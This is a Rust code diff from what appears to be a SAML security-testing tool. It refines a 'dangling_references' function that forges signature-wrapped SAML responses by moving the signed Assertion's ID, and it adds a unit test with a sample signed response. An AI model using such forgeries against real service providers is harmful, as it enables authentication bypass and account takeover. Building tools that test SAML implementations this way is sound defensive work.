@@ -399,7 +399,17 @@ pub fn dangling_references(f: &Forge) -> Result<Forged, Skip> {
         crate::identity::rewrite_edits(&doc, p.assertion.range(), &crate::identity::forger(&doc));
     let id = attr_value(p.assertion, "ID")
         .ok_or_else(|| Skip::NotApplicable("the Assertion has no ID".into()))?;
-    edits.push((id, crate::family::evil_id(p.assertion_id())));
+    let signed = p.assertion_id();
+    if doc
+        .tree
+        .descendants()
+        .any(|n| n != p.assertion && n.attribute("ID") == Some(signed))
+    {
+        return Err(Skip::NotApplicable(format!(
+            "another element carries the Assertion's ID {signed:?}, so the Reference would resolve"
+        )));
+    }
+    edits.push((id, crate::family::evil_id(signed)));
     edits.push(crate::bytes::insert(p.after_response_header(), copy));
     forged(p.splice_unsigned_response(edits), swap)
 }
@@ -426,6 +436,38 @@ mod tests {
                 out
             })
             .collect()
+    }
+
+    const SIGNED: &str = r##"<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r"><Issuer xmlns="urn:oasis:names:tc:SAML:2.0:assertion">https://sts.windows.net/t/</Issuer><Assertion xmlns="urn:oasis:names:tc:SAML:2.0:assertion" ID="_a"><Issuer>https://sts.windows.net/t/</Issuer><Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo><Reference URI="#_a"/></SignedInfo></Signature><Subject><NameID>b.simon@contoso.com</NameID></Subject></Assertion></samlp:Response>"##;
+
+    fn forge(seed: &str) -> Forge<'_> {
+        Forge {
+            seed,
+            idp_key: None,
+            donors: Default::default(),
+            canary: None,
+            sp: Default::default(),
+        }
+    }
+
+    #[test]
+    fn dangling_references_leave_no_element_with_the_signed_id() {
+        let forged = dangling_references(&forge(SIGNED)).unwrap();
+        let doc = roxmltree::Document::parse(&forged.xml).unwrap();
+        assert!(!doc.descendants().any(|n| n.attribute("ID") == Some("_a")));
+        let references: Vec<_> = doc
+            .descendants()
+            .filter(|n| n.has_tag_name((DSIG_NS, "Reference")))
+            .map(|n| n.attribute("URI").unwrap_or_default())
+            .collect();
+        assert_eq!(references, ["#_a", "#_a"], "{}", forged.xml);
+        assert!(!forged.swap.forged.is_empty());
+        // A seed where another element carries the ID would let the Reference resolve.
+        let shadowed = SIGNED.replace("ID=\"_r\"", "ID=\"_a\"");
+        assert!(matches!(
+            dangling_references(&forge(&shadowed)),
+            Err(Skip::NotApplicable(_))
+        ));
     }
 
     #[test]
